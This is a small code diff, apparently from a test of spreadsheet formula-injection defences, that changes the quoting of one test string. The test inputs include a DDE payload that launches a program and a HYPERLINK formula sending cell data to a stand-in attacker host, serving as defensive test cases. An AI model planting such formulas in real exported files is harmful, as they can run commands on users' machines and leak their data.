@@ -9,7 +9,7 @@ because: cells that begin like a formula are quoted, and a submission's text sta
 import * as np from 'numpy-ts';
 
 const texts = [
-  '=cmd|\'/C calc\'!A1',
+  "=cmd|'/C calc'!A1",
   '=HYPERLINK("http://evil.example/?"&A1,"100")',
   '+1+1',
   '-1+1',
